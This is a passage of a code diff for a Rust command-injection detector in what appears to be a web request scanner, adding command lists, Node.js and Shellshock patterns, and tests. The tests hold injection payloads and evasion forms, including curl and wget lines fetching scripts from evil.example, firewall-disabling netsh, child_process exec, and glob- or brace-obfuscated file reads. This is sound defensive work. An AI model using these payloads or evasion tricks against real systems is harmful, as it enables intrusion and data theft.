@@ -40,7 +40,14 @@ const STRONG: &[&str] = &[
     "aa-disable", "aa-exec", "setcap", "getcap", "chattr", "lsattr", "dpkg", "rpm", "apt-get",
     "logger", "journalctl", "systemd-run", "nproc",
     "lscpu", "lsblk", "blkid", "fdisk", "mkfs", "modprobe", "insmod", "rmmod", "lsmod",
+    "regedit", "bcdedit", "bcdboot", "iwr", "iwmi", "cpulimit", "aptitude", "bsdtar", "ansible-config",
+    "ansible-pull", "diskpart", "cipher", "wevtutil", "fsutil", "auditpol", "gunzip", "zcat", "zstdcat", "bzcat",
+    "xzcat", "zgrep", "zless", "zmore", "lzcat",
 ];
+
+/// Reconnaissance commands that, as the whole value, are a command and nothing else.
+/// (`uname` alone is also a user-name field's name.)
+const RECON: &[&str] = &["whoami", "ifconfig", "ipconfig", "netstat", "systeminfo", "tasklist"];
 
 /// Commands that are also English words: need shell-looking arguments.
 const WEAK: &[&str] = &[
@@ -78,26 +85,11 @@ const INVOCATIONS: &[&str] = &[
     "wscript.shell", "shell.application", "process.start(",
 ];
 
-/// What a value must contain for any rule of this class to match (see `gate`): add a
-/// trigger here with every new rule.
-pub const TRIGGERS: Triggers = Triggers {
-    // Fragments found anywhere: invocations, Shellshock, `alias`, redirections, `$IFS`,
-    // SSI, here-strings, arithmetic, Windows variables...
-    anywhere: &[
-        INVOCATIONS,
-        &["() {", "(){", "alias", ">/dev/null", "> /dev/null", ">&/dev/", "</dev/", "2>&1", "$ifs", "${ifs", "<!--#", "<<<", "$(("],
-        WINDOWS_ENV_VARS,
-        // `IF` conditions without `%` (`batch_statement`).
-        &["=="],
-        BATCH_IF_WORDS,
-    ],
-    // ...and a command word after a separator, a value that is itself a command line, or
-    // a cmd.exe statement.
-    custom: Some(|v| {
-        leading_command(v) || command_after_separator(v) || v.text.contains('%') && batch_statement(v.text.get(..super::textscan::floor_char(v.text, MAX_BYTES)).unwrap_or(v.text)).is_some()
-    }),
-    ..Triggers::NONE
-};
+/// What a value must contain for any rule of this class to match (see `gate`). The class
+/// now reads bare commands, C-escaped separators, brace expansions and glob-only paths, so
+/// no cheap necessary condition covers every rule: the scanner runs on every value and
+/// relies on its own quick exit for words-only text.
+pub const TRIGGERS: Triggers = Triggers::ALWAYS;
 
 /// Windows environment variables naming system locations.
 const WINDOWS_ENV_VARS: &[&str] = &["%systemroot%", "%windir%", "%comspec%", "%programfiles%", "%systemdrive%", "%userprofile%", "%appdata%", "%temp%", "%homedrive%"];
@@ -117,81 +109,151 @@ fn separator_at(s: &[u8], i: usize) -> Option<(Sep, usize)> {
     })
 }
 
-/// The gate's condition for `rce.command-chain`/`rce.substitution`: a command word at one
-/// of the separators `scan` examines.
-fn command_after_separator(v: &Value<'_>) -> bool {
-    let full = v.text;
-    let s = full.get(..super::textscan::floor_char(full, MAX_BYTES)).unwrap_or(full).as_bytes();
-    let (mut i, mut starts) = (0, 0);
-    while i < s.len() && starts < MAX_STARTS {
-        // Skip to the next byte that can start a separator.
-        match s.get(i..).and_then(|r| r.iter().position(|c| matches!(c, b'`' | b'$' | b'<' | b'>' | b';' | b'\n' | b'\r' | b'|' | b'&'))) {
-            Some(o) => i += o,
-            None => break,
-        }
-        let Some((_, next)) = separator_at(s, i) else {
-            i += 1;
-            continue;
-        };
-        starts += 1;
-        if command_at(s, next).is_some() {
-            return true;
-        }
-        i = next.max(i + 1);
-    }
-    false
-}
-
 /// Words of a cmd.exe `IF` condition (`batch_statement`).
 const BATCH_IF_WORDS: &[&str] = &["exist", "defined", "errorlevel", " equ ", " neq ", " lss ", " leq ", " gtr ", " geq ", "+equ+", "+gtr+", "+lss+"];
 
-/// The gate's condition for `rce.leading-command`: more than one word (or a quote first)
-/// and a command word first.
-fn leading_command(v: &Value<'_>) -> bool {
-    let full = v.text;
-    let t = full.get(..super::textscan::floor_char(full, MAX_BYTES)).unwrap_or(full);
-    let s = t.as_bytes();
-    let multi_word = s.iter().any(|&b| matches!(b, b' ' | b'\t' | b'+' | b'$'));
-    let quoted = matches!(s.first(), Some(b'\'' | b'"'));
-    (multi_word || quoted) && !is_prose(v) && command_at(s, usize::from(quoted)).is_some()
-}
+/// Server-side JavaScript (Node.js) code-execution fragments.
+const NODE_JS: &[&str] = &[
+    "_$$nd_func$$_", "__js_function", "constructor.constructor", "child_process", "process.mainmodule",
+    "process.binding(", "global.process", "module.constructor._load", "process.dlopen(",
+];
 
-/// Per-value scan.
+/// Per-value scan: the text as given and, when it holds C-style escapes (`\n`, `\r`,
+/// `\t`, `\033[2A`), the text those escapes stand for.
 pub fn scan(v: &Value<'_>, out: &mut Vec<Hit>) {
     let full = v.text;
     let t = full.get(..super::textscan::floor_char(full, MAX_BYTES)).unwrap_or(full);
-    let s = t.as_bytes();
-    if s.is_empty() {
+    if t.is_empty() {
         return;
     }
     let since = out.len();
+    scan_text(v, t, out, since);
+    if let Some(u) = c_unescape(t) {
+        let mut more = Vec::new();
+        scan_text(v, &u, &mut more, 0);
+        for h in more {
+            // Keep the stronger of two hits of one rule.
+            match out.iter_mut().skip(since).find(|o| o.rule == h.rule) {
+                Some(o) if o.score < h.score => *o = h,
+                Some(_) => {}
+                None => out.push(h),
+            }
+        }
+    }
+}
+
+/// The text with C-style escapes undone, if it has any: `\n` `\r` `\t` as blanks and
+/// line breaks, `\0`, `\e`, `\033`, `\x1b` as ESC, `` \` `` as a backtick; ANSI control
+/// sequences (`ESC [ 2 A`) are dropped. Payload lists write separators this way.
+fn c_unescape(t: &str) -> Option<String> {
+    let b = t.as_bytes();
+    let any = memchr::memchr_iter(b'\\', b).any(|i| matches!(b.get(i + 1), Some(b'n' | b'r' | b't' | b'0' | b'e' | b'`')) || b.get(i + 1..i + 4) == Some(b"x1b"));
+    if !any {
+        return None;
+    }
+    let mut out: Vec<u8> = Vec::with_capacity(b.len());
+    let mut i = 0;
+    while let Some(&c) = b.get(i) {
+        if c != b'\\' {
+            out.push(c);
+            i += 1;
+            continue;
+        }
+        let (rep, used): (Option<u8>, usize) = match b.get(i + 1) {
+            Some(b'n') => (Some(b'\n'), 2),
+            Some(b'r') => (Some(b'\r'), 2),
+            Some(b't') => (Some(b'\t'), 2),
+            Some(b'`') => (Some(b'`'), 2),
+            Some(b'e') => (Some(0x1b), 2),
+            Some(b'0') if b.get(i + 2..i + 4) == Some(b"33") => (Some(0x1b), 4),
+            Some(b'0') => (None, 2),
+            Some(b'x') if b.get(i + 2..i + 4).is_some_and(|h| h.eq_ignore_ascii_case(b"1b")) => (Some(0x1b), 4),
+            _ => (Some(b'\\'), 1),
+        };
+        i += used;
+        match rep {
+            // ESC `[` parameters, one final byte: a terminal control sequence.
+            Some(0x1b) if b.get(i) == Some(&b'[') => {
+                i += 1;
+                while b.get(i).is_some_and(|c| c.is_ascii_digit() || *c == b';') {
+                    i += 1;
+                }
+                if b.get(i).is_some_and(|c| c.is_ascii_uppercase()) {
+                    i += 1;
+                }
+            }
+            Some(0x1b) => {}
+            Some(r) => out.push(r),
+            None => {}
+        }
+    }
+    String::from_utf8(out).ok()
+}
+
+fn scan_text(v: &Value<'_>, t: &str, out: &mut Vec<Hit>, since: usize) {
+    let s = t.as_bytes();
     let prose = is_prose(v);
     let (sc_score, sc_pl) = if prose { (3, 2) } else { (5, 1) };
 
-    // Shellshock: a function definition at the start of a value (headers, usually).
+    // Shellshock: a function definition at the start of a value (headers, usually); the
+    // blanks may be any filler bash skips or a layer rewrote (`().{.:;.};`).
     let trimmed = t.trim_start_matches([' ', '\t', '"', '\'']);
-    if trimmed.starts_with("() {") || trimmed.starts_with("(){") || trimmed.starts_with("() {") {
-        push_once(out, since, hit("rce.shellshock", CLASS, 5, 1, snippet(trimmed, 0, 80)));
+    if let Some(rest) = trimmed.strip_prefix("()") {
+        let filler = rest.bytes().take_while(|c| matches!(c, b' ' | b'\t' | b'.' | b'+' | b'\n')).count();
+        let canonical = rest.starts_with(" {") || rest.starts_with('{');
+        if filler <= 4 && rest.as_bytes().get(filler) == Some(&b'{') && (canonical || rest.get(filler..).is_some_and(|r| r.get(..16).unwrap_or(r).contains(';'))) {
+            push_once(out, since, hit("rce.shellshock", CLASS, 5, 1, snippet(trimmed, 0, 80)));
+        }
+    }
+
+    // A value that is nothing but a reconnaissance command (`whoami`, `ipconfig`).
+    let bare = t.trim_matches(|c: char| c.is_ascii_whitespace() || matches!(c, '\'' | '"' | '`'));
+    if v.part != Part::ArgName && bare.len() <= 16 && RECON.iter().any(|r| bare.eq_ignore_ascii_case(r) || bare.len() == r.len() + 4 && bare.get(..r.len()).is_some_and(|h| h.eq_ignore_ascii_case(r)) && bare.get(r.len()..).is_some_and(|x| x.eq_ignore_ascii_case(".exe"))) {
+        push_once(out, since, hit("rce.bare-command", CLASS, 5, 1, snippet(t, 0, 40)));
     }
 
     // Quick exit: no shell metacharacter and no invocation fragment.
-    let has_meta = s.iter().any(|&b| matches!(b, b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'\r' | b'(' | b'{' | b'%' | b'\'' | b'"' | b'<'));
-    if !has_meta && !t.contains('/') && !t.contains('-') && !t.contains('.') {
+    let has_meta = s.iter().any(|&b| matches!(b, b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'\r' | b'(' | b'{' | b'%' | b'\'' | b'"' | b'<' | b'\\'));
+    if !has_meta && !t.contains('/') && !t.contains('-') && !t.contains('.') && !t.contains(':') {
+        // Words only: at most a command line of words (`which nc`, `net view`, `sleep 5`)
+        // or a cmd.exe statement (`IF EXIST x GOTO y`).
+        if t.contains(' ') || t.contains('+') {
+            leading_command(t, prose, out, since);
+            if let Some((score, at)) = batch_statement(t) {
+                push_once(out, since, hit("rce.windows-batch", CLASS, score, 1, snippet(t, at, at + 80)));
+            }
+        }
         return;
     }
 
+    // Shell invocations and Node.js code execution, in one automaton pass.
     static INVOCATIONS_AC: std::sync::OnceLock<Option<aho_corasick::AhoCorasick>> = std::sync::OnceLock::new();
-    if let Some(ac) = INVOCATIONS_AC.get_or_init(|| super::textscan::automaton(INVOCATIONS)) {
+    let ac = INVOCATIONS_AC.get_or_init(|| {
+        let all: Vec<&str> = INVOCATIONS.iter().chain(NODE_JS.iter()).copied().collect();
+        super::textscan::automaton(&all)
+    });
+    if let Some(ac) = ac {
+        let (mut shell, mut node) = (false, false);
         for m in ac.find_overlapping_iter(s).take(16) {
             let at = m.start();
-            let frag = INVOCATIONS.get(m.pattern().as_usize()).copied().unwrap_or_default();
-            // `sh -c`-like fragments need a word boundary before them.
-            if frag.starts_with(|c: char| c.is_ascii_alphabetic()) && !super::textscan::word_start(s, at) {
-                continue;
+            let idx = m.pattern().as_usize();
+            if let Some(frag) = INVOCATIONS.get(idx) {
+                // `sh -c`-like fragments need a word boundary before them.
+                if shell || frag.starts_with(|c: char| c.is_ascii_alphabetic()) && !super::textscan::word_start(s, at) {
+                    continue;
+                }
+                shell = true;
+                let (score, pl) = if prose { (3, 2) } else { (5, 1) };
+                push_once(out, since, hit("rce.shell-invocation", CLASS, score, pl, snippet(t, at, at + 80)));
+            } else if !node {
+                // Node.js: node-serialize's function marker, sandbox escapes through
+                // `constructor.constructor`, the `child_process` module.
+                node = true;
+                push_once(out, since, hit("rce.node-js", CLASS, 5, 1, snippet(t, at, at + 80)));
             }
-            let (score, pl) = if prose { (3, 2) } else { (5, 1) };
-            push_once(out, since, hit("rce.shell-invocation", CLASS, score, pl, snippet(t, at, at + 80)));
-            break;
+            if shell && node {
+                break;
+            }
         }
     }
 
@@ -239,23 +301,38 @@ pub fn scan(v: &Value<'_>, out: &mut Vec<Hit>) {
         i = next.max(i + 1);
     }
 
-    // A value that is itself a command line (`wget http://x/s.sh`, `cat /etc/passwd`).
-    // (Only values with an argument after the first word, or opening with a quote.)
-    let multi_word = s.iter().any(|&b| matches!(b, b' ' | b'\t' | b'+' | b'$'));
-    if !prose && (multi_word || matches!(s.first(), Some(b'\'' | b'"'))) {
-        // A quote first (`' whoami`) breaks out of a quoted argument.
-        let quoted = matches!(s.first(), Some(b'\'' | b'"'));
-        let start = if quoted { 1 } else { 0 };
-        if let Some(cmd) = command_at(s, start) {
-            if cmd.args_shellish && cmd.strength != Strength::Weak {
-                push_once(out, since, hit("rce.leading-command", CLASS, 5, 1, snippet(t, 0, 80)));
-            } else if cmd.args_shellish {
-                push_once(out, since, hit("rce.leading-command", CLASS, 3, 1, snippet(t, 0, 80)));
-            } else if quoted && cmd.strength == Strength::Strong && cmd.ends_value {
-                push_once(out, since, hit("rce.leading-command", CLASS, 5, 1, snippet(t, 0, 80)));
+    // `/???/c?t`, `/e*?/p*d` as an argument anywhere: a path spelled with shell globs so
+    // that no file name appears.
+    if !prose && memchr::memchr(b'?', s).is_some() {
+        let mut from = 0;
+        let mut tried = 0;
+        while let Some(at) = s.get(from..).and_then(|r| memchr::memchr(b'/', r)).map(|o| o + from) {
+            from = at + 1;
+            let prev = if at == 0 { None } else { s.get(at - 1).copied() };
+            if !matches!(prev, None | Some(b' ' | b'\t' | b',' | b'\'' | b'"' | b'=' | b'(' | b'{' | b'+' | b';' | b'|' | b'&' | b'`' | b'\n')) {
+                continue;
+            }
+            tried += 1;
+            if tried > 16 {
+                break;
+            }
+            let (word, _) = read_word(s, at);
+            let segs: Vec<&str> = word.split('/').filter(|x| !x.is_empty()).collect();
+            if glob_path(&word) && word.contains('?') && segs.iter().all(|x| x.contains(['?', '*'])) {
+                push_once(out, since, hit("rce.glob-path", CLASS, 5, 1, snippet(t, at, at + 60)));
+                break;
             }
         }
     }
+
+    // Bash brace expansion that spells a command line (`{l,-lh}s`, `{,ifconfig}`,
+    // `{cat,/etc/passwd}`).
+    if !prose && memchr::memchr(b'{', s).is_some() {
+        if let Some(at) = brace_command(s) {
+            push_once(out, since, hit("rce.brace-expansion", CLASS, 5, 1, snippet(t, at, at + 60)));
+        }
+    }
+    leading_command(t, prose, out, since);
 
     // cmd.exe control flow: `FOR /F "..." %%G IN (...) DO ...`, `IF [NOT] EXIST x cmd`.
     if let Some((score, at)) = batch_statement(t) {
@@ -314,6 +391,27 @@ pub fn scan(v: &Value<'_>, out: &mut Vec<Hit>) {
     }
 }
 
+/// A value that is itself a command line (`wget http://x/s.sh`, `cat /etc/passwd`).
+/// (Only values with an argument after the first word, or opening with a quote.)
+fn leading_command(t: &str, prose: bool, out: &mut Vec<Hit>, since: usize) {
+    let s = t.as_bytes();
+    let multi_word = s.iter().any(|&b| matches!(b, b' ' | b'\t' | b'+' | b'$'));
+    if !prose && (multi_word || matches!(s.first(), Some(b'\'' | b'"'))) {
+        // A quote first (`' whoami`) breaks out of a quoted argument.
+        let quoted = matches!(s.first(), Some(b'\'' | b'"'));
+        let start = if quoted { 1 } else { 0 };
+        if let Some(cmd) = command_at(s, start) {
+            if cmd.args_shellish && (cmd.strength != Strength::Weak || cmd.args_strong) && !host_only(s, start, cmd.end) {
+                push_once(out, since, hit("rce.leading-command", CLASS, 5, 1, snippet(t, 0, 80)));
+            } else if cmd.args_shellish {
+                push_once(out, since, hit("rce.leading-command", CLASS, 3, 1, snippet(t, 0, 80)));
+            } else if quoted && cmd.strength == Strength::Strong && cmd.ends_value {
+                push_once(out, since, hit("rce.leading-command", CLASS, 5, 1, snippet(t, 0, 80)));
+            }
+        }
+}
+}
+
 #[derive(Clone, Copy, PartialEq, Eq)]
 enum Sep {
     Chain,
@@ -339,6 +437,9 @@ struct Cmd {
     then_separator: bool,
     /// A `)` follows (end of a `$(..)` substitution).
     then_close: bool,
+    /// The first argument only makes sense to a shell: a drive root (`C:\\`), an admin
+    /// tool's verb (`net user`), a command name after `which`, a bare number after `sleep`.
+    args_strong: bool,
     end: usize,
 }
 
@@ -389,6 +490,11 @@ fn read_word_once(s: &[u8], mut i: usize) -> (String, usize) {
         }
         match c {
             b'\\' => {
+                // `c\\a\\t`: a run of backslashes (one per unescaping layer) escapes the
+                // character after it.
+                while s.get(i + 1) == Some(&b'\\') && s.get(i + 2).is_some() {
+                    i += 1;
+                }
                 if let Some(&n) = s.get(i + 1) {
                     if n != b'\n' && !n.is_ascii_whitespace() {
                         w.push(n.to_ascii_lowercase() as char);
@@ -465,9 +571,14 @@ fn command_at(s: &[u8], i: usize) -> Option<Cmd> {
     }
     let name = word.rsplit(['/', '\\']).next().unwrap_or(&word);
     let name = name.strip_suffix(".exe").unwrap_or(name);
+    // `python3.10`, `php7.4`: an interpreter with its version glued on.
+    let versioned = {
+        let base = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+        base.len() < name.len() && matches!(base, "python" | "perl" | "php" | "ruby" | "lua" | "node" | "gcc" | "pip" | "java" | "bash")
+    };
     let strength = if (word.contains('?') || word.contains('*')) && word.starts_with('/') && glob_path(&word) {
         Strength::Glob
-    } else if is_strong(name) || (word.contains('/') && is_weak(name) && word.starts_with('/')) {
+    } else if is_strong(name) || versioned || (word.contains('/') && is_weak(name) && word.starts_with('/')) {
         Strength::Strong
     } else if is_weak(name) {
         Strength::Weak
@@ -476,11 +587,14 @@ fn command_at(s: &[u8], i: usize) -> Option<Cmd> {
     } else {
         return None;
     };
+    // `{cat,/etc/passwd}`: in a brace expansion the comma separates the arguments.
+    let brace = s.get(i..end).is_some_and(|r| r.iter().take_while(|c| !c.is_ascii_alphanumeric() && **c != b'\\').any(|&c| c == b'{'));
     // What follows the word.
     let mut j = end;
     loop {
         match s.get(j) {
             Some(b' ' | b'\t' | b'+') => j += 1,
+            Some(b',') if brace && j == end => j += 1,
             Some(b'$') if ifs_len(s, j) > 0 => j += ifs_len(s, j),
             _ => break,
         }
@@ -503,26 +617,38 @@ fn command_at(s: &[u8], i: usize) -> Option<Cmd> {
         Some(b'\'' | b'"') => true,
         Some(_) if raw_token(rest).windows(2).any(|w| w == b"$(" || w == b"${") || raw_token(rest).contains(&b'`') => true,
         Some(_) => {
-            let (arg, _) = read_word(s, j);
+            let (arg, arg_end) = read_word(s, j);
             let drive = arg.as_bytes().get(1) == Some(&b':') && arg.bytes().next().is_some_and(|c| c.is_ascii_alphabetic());
-            arg.contains('/') || arg.contains('.') && arg.len() > 2 || arg.contains('\\') || drive || subcommand(name, &arg)
+            let rest_blank = s.get(arg_end..).is_none_or(|r| r.iter().all(|c| c.is_ascii_whitespace()));
+            arg.contains('/') || arg.contains('.') && arg.len() > 2 || arg.contains('\\') || drive || subcommand(name, &arg, rest_blank)
         }
         None => false,
     } && end > i;
+    let args_strong = args_shellish && {
+        let (arg, arg_end) = read_word(s, j);
+        let a = arg.as_bytes();
+        let drive = a.len() >= 2 && a.first().is_some_and(|c| c.is_ascii_alphabetic()) && a.get(1) == Some(&b':') && matches!(a.get(2), None | Some(b'\\' | b'/'))
+            || rest.get(..3).is_some_and(|r| r.first().is_some_and(|c| c.is_ascii_alphabetic()) && r.get(1) == Some(&b':') && r.get(2) == Some(&b'\\'));
+        let after_arg = s.get(arg_end..).unwrap_or_default();
+        let only_number = !a.is_empty() && a.iter().all(|c| c.is_ascii_digit()) && after_arg.iter().all(|c| c.is_ascii_whitespace());
+        drive
+            || subcommand(name, &arg, after_arg.iter().all(|c| c.is_ascii_whitespace())) && !(name == "net" && matches!(arg.as_str(), "use" | "start" | "stop" | "group" | "config"))
+            || name == "sleep" && only_number
+    };
     // A word directly glued to letters (`setup`, `category`) or a `name=value` pair is
     // not this command.
     let glued = s.get(end).is_some_and(|c| c.is_ascii_alphanumeric());
     if glued || followed_by_eq {
         return None;
     }
-    Some(Cmd { strength, args_shellish, ends_value, then_separator, then_close, end })
+    Some(Cmd { strength, args_shellish, ends_value, then_separator, then_close, args_strong, end })
 }
 
 /// A `FOR ... %v IN (...) DO` loop or an `IF` statement in cmd.exe syntax. Returns the
 /// score and offset.
 fn batch_statement(t: &str) -> Option<(u32, usize)> {
     use super::textscan::contains_ci;
-    let for_gate = t.contains('%') && contains_ci(t, "for") && contains_ci(t, " do");
+    let for_gate = t.contains('%') && contains_ci(t, "for") && contains_ci(t, "do");
     let if_gate = contains_ci(t, "if")
         && (t.contains('%') || t.contains("==") || BATCH_IF_WORDS.iter().any(|k| contains_ci(t, k)));
     if !for_gate && !if_gate {
@@ -556,7 +682,7 @@ fn batch_statement(t: &str) -> Option<(u32, usize)> {
         }
         let ws = words(at + 3);
         // Skip switches and the options string to the loop variable.
-        let var = ws.iter().position(|(_, w)| w.starts_with('%') && w.len() <= 4 && w.len() >= 2);
+        let var = ws.iter().position(|(_, w)| w.starts_with('%') && w.len() <= 20 && w.len() >= 2 && !w.ends_with('%'));
         if let Some(vi) = var {
             let rest: Vec<&str> = ws.iter().skip(vi + 1).map(|(_, w)| *w).collect();
             let has_in = rest.first().is_some_and(|w| *w == "in" || w.starts_with("in("));
@@ -574,16 +700,29 @@ fn batch_statement(t: &str) -> Option<(u32, usize)> {
         }
         let ws = words(at + 2);
         let mut k = 0;
-        if ws.first().is_some_and(|(_, w)| *w == "not" || *w == "/i") {
+        while k < 2 && ws.get(k).is_some_and(|(_, w)| *w == "not" || *w == "/i") {
             k += 1;
         }
         let Some((_, first)) = ws.get(k) else { continue };
         let cond_kw = matches!(*first, "exist" | "defined" | "errorlevel" | "cmdextversion");
         let cmp = ws.iter().skip(k).take(4).any(|(_, w)| matches!(*w, "equ" | "neq" | "lss" | "leq" | "gtr" | "geq") || w.contains("=="));
-        let enough = ws.len() >= k + 3;
+        // `a==b` glued is one word: condition and command then need two.
+        let glued_cmp = first.contains("==");
+        let enough = ws.len() >= k + if glued_cmp { 2 } else { 3 };
         let has_var = lower.get(at..).is_some_and(|r| r.contains('%') || r.contains('!'));
         if (cond_kw || cmp) && enough {
-            let score = if has_var || cmp && cond_kw || first.starts_with('%') || first.starts_with('"') || first.starts_with('[') || first.starts_with('(') { 5 } else { 3 };
+            // What follows the condition: a command, a block, or `goto`.
+            let operands = match *first {
+                "exist" | "defined" | "errorlevel" | "cmdextversion" => 2,
+                _ if glued_cmp => 1,
+                _ => 3,
+            };
+            let then = ws.get(k + operands).map(|(_, w)| *w).unwrap_or_default();
+            let then = then.trim_start_matches(['(', '@']);
+            let then_cmd = ws.get(k + operands).is_some_and(|(_, w)| w.starts_with('('))
+                || matches!(then, "goto" | "set" | "echo" | "call" | "exit" | "del" | "copy" | "move" | "start" | "cmd" | "if" | "not" | "type" | "ren" | "md" | "rd" | "cd" | "pause" | "shift" | "...")
+                || is_strong(then);
+            let score = if has_var || cmp && cond_kw || then_cmd || glued_cmp || first.starts_with('%') || first.starts_with('"') || first.starts_with('[') || first.starts_with('(') { 5 } else { 3 };
             return Some((score, at));
         }
     }
@@ -594,6 +733,12 @@ fn batch_statement(t: &str) -> Option<(u32, usize)> {
 fn raw_token(rest: &[u8]) -> &[u8] {
     let n = rest.iter().take(128).position(|c| c.is_ascii_whitespace()).unwrap_or(rest.len().min(128));
     rest.get(..n).unwrap_or_default()
+}
+
+/// A command name that is proof on its own (`whoami`, `uname`; not English words), for
+/// other detectors that find a command line inside another language (`system(whoami)`).
+pub(crate) fn is_command_name(word: &str) -> bool {
+    word.len() <= 32 && is_strong(&word.to_ascii_lowercase())
 }
 
 fn is_strong(name: &str) -> bool {
@@ -607,14 +752,83 @@ fn is_weak(name: &str) -> bool {
 }
 
 /// Windows admin tools whose first argument is a verb (`net user`, `sc query`).
-fn subcommand(cmd: &str, arg: &str) -> bool {
+fn subcommand(cmd: &str, arg: &str, rest_blank: bool) -> bool {
     match cmd {
         "net" | "net1" => matches!(arg, "user" | "users" | "localgroup" | "view" | "use" | "share" | "session" | "accounts" | "group" | "config" | "start" | "stop"),
         "sc" => matches!(arg, "query" | "create" | "start" | "stop" | "config" | "delete" | "qc"),
         "reg" => matches!(arg, "query" | "add" | "delete" | "export" | "save"),
         "cmd" => matches!(arg, "/c" | "/k"),
+        // `which nc`, alone: asking the shell where a tool is.
+        "which" | "whereis" => is_strong(arg) && rest_blank,
+        // `time ifconfig`, `nohup whoami`: a prefix command running another one.
+        "time" | "nohup" | "strace" | "ltrace" | "sudo" | "doas" | "nice" | "ionice" | "env" | "timeout" | "stdbuf" | "setsid" | "xargs" | "exec" | "command" | "builtin" | "watch" | "chroot" => {
+            is_strong(arg) && rest_blank && !matches!(arg, "id" | "ls" | "sh" | "nc" | "ping" | "pwd" | "cmd" | "reg" | "perf")
+        }
+        "netsh" => matches!(arg, "firewall" | "advfirewall" | "interface" | "int" | "wlan" | "winsock" | "http" | "dump" | "routing" | "winhttp" | "ipsec"),
         _ => false,
     }
+}
+
+/// Offset of a `pre{a,b}post` brace expansion whose words form a command line: a
+/// strong command first, or a weak one with an option or path argument (or alone, when
+/// the value is nothing but the expansion).
+fn brace_command(s: &[u8]) -> Option<usize> {
+    let mut from = 0;
+    let mut tries = 0;
+    while let Some(open) = s.get(from..).and_then(|r| memchr::memchr(b'{', r)).map(|o| o + from) {
+        from = open + 1;
+        tries += 1;
+        if tries > 16 {
+            break;
+        }
+        if open > 0 && s.get(open - 1) == Some(&b'$') {
+            continue;
+        }
+        let inner_len = s.get(open + 1..)?.iter().take(96).position(|&c| c == b'}')?;
+        let inner = s.get(open + 1..open + 1 + inner_len)?;
+        if !inner.contains(&b',') || inner.iter().any(|c| c.is_ascii_whitespace() || matches!(c, b'"' | b':' | b'{')) {
+            continue;
+        }
+        let is_word = |c: &u8| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.' | b'/');
+        let pre_len = s.get(..open)?.iter().rev().take_while(|c| is_word(c)).count();
+        let pre = s.get(open - pre_len..open)?;
+        let post_start = open + 1 + inner_len + 1;
+        let post_len = s.get(post_start..).unwrap_or_default().iter().take_while(|c| is_word(c)).count();
+        let post = s.get(post_start..post_start + post_len).unwrap_or_default();
+        let words: Vec<String> = inner
+            .split(|&c| c == b',')
+            .map(|alt| {
+                let mut w = pre.to_vec();
+                w.extend_from_slice(alt);
+                w.extend_from_slice(post);
+                String::from_utf8_lossy(&w).to_ascii_lowercase()
+            })
+            .filter(|w| !w.is_empty())
+            .collect();
+        let Some(cmd) = words.first() else { continue };
+        let name = cmd.rsplit('/').next().unwrap_or(cmd);
+        let args_shellish = words.iter().skip(1).any(|a| a.starts_with(['-', '/', '.', '~']));
+        let whole = open - pre_len == 0 && post_start + post_len >= s.len();
+        if is_strong(name) || is_weak(name) && name.len() >= 3 && (args_shellish || whole) {
+            return Some(open - pre_len);
+        }
+    }
+    None
+}
+
+/// The rest of a command line after the command word is one host name or address
+/// (`ping 10.0.0.1`, `nslookup example.com`): what a network-diagnostics form expects.
+fn host_only(s: &[u8], start: usize, end: usize) -> bool {
+    let (word, _) = read_word(s, start);
+    let name = word.rsplit(['/', '\\']).next().unwrap_or(&word);
+    let name = name.strip_suffix(".exe").unwrap_or(name);
+    if !matches!(name, "ping" | "ping6" | "nslookup" | "traceroute" | "tracert" | "host" | "dig" | "whois" | "telnet" | "ncat" | "nc") {
+        return false;
+    }
+    let rest = s.get(end..).unwrap_or_default();
+    let rest: Vec<u8> = rest.iter().map(|&c| if c == b'+' { b' ' } else { c }).collect();
+    let words: Vec<&[u8]> = rest.split(|c| c.is_ascii_whitespace()).filter(|w| !w.is_empty()).collect();
+    words.len() == 1 && words.first().is_some_and(|w| w.iter().all(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b':' | b'-')) && !w.starts_with(b"-"))
 }
 
 /// `/???/c?t`, `/bin/n?`: every segment is letters and glob characters, some glob.
@@ -699,6 +913,86 @@ mod tests {
     }
 
     #[test]
+    fn batch_wrappers_braces_and_node() {
+        for a in [
+            // cmd.exe loops with long variable names and `)DO` glued.
+            "for %name in (a b) do echo %name",
+            "&FOR %~ IN (x,y)DO whoami",
+            // IF with a command, a block or a code-style comparison after the condition.
+            "IF EXIST report.txt (type report.txt)",
+            "IF NOT DEFINED foo GOTO end",
+            "IF /I NOT EXIST C:\\x echo missing",
+            "if x==y dosomething",
+            "IF 3 GTR 2 echo bigger",
+            // A prefix command running a command.
+            "nohup whoami",
+            "zstdcat /var/log/app.log.zst",
+            "strace uname",
+            "x;python3.11 -c print(1)",
+            // Brace expansion spelling a command line.
+            "{l,-la}s",
+            "{,hostname}",
+            "{cat,/etc/hostname}",
+            "c{a,oun}t",
+            // Node.js code execution.
+            "{\"rce\":\"_$$ND_FUNC$$_function(){}()\"}",
+            "this.constructor.constructor('return process')()",
+            "require('child_process').exec('id')",
+            // Shellshock, canonical, without a body yet.
+            "() {",
+        ] {
+            assert!(score(Part::QueryValue, a) >= 5, "{a}: {:?}", rules(Part::QueryValue, a));
+        }
+        for b in [
+            "If you exist, say hi",
+            "if not defined in the spec, skip it",
+            "for your info in (brackets) do not reply",
+            "file{1,2}.txt",
+            "{a,b,c}",
+            "{red,green}",
+            "{\"a\":1,\"b\":2}",
+            "nice python tutorial",
+            "time to go",
+            "the constructor of the class",
+        ] {
+            assert!(score(Part::QueryValue, b) < 5, "{b}: {:?}", rules(Part::QueryValue, b));
+        }
+    }
+
+    #[test]
+    fn escaped_separators_and_bare_command_lines() {
+        for a in [
+            // C-style escapes written out, as payload lists carry them.
+            "\\nwhoami\\n",
+            ";uname -a\\n",
+            "x\\r\\nhostname;",
+            "\\n\\033[2Acurl http://evil.example/x.sh",
+            "q\\n\\e[1Kwget http://evil.example/x",
+            // A value that is only a reconnaissance command, or a command line that only a
+            // shell understands.
+            "whoami",
+            "IPCONFIG",
+            "systeminfo.exe",
+            "uname -r",
+            "dir C:\\Windows\\Temp",
+            "type d:\\secrets.txt",
+            "net localgroup administrators",
+            "netsh advfirewall set allprofiles state off",
+            "which nc",
+            "sleep 7",
+            "ping -n 40 10.1.1.1",
+            // Brace expansion, stacked backslashes, dotted Shellshock, glob-only paths.
+            ";{c\\at,/etc/hostname}",
+            "a;{\\c''\\a\\t,/e''*?/h?st??me}",
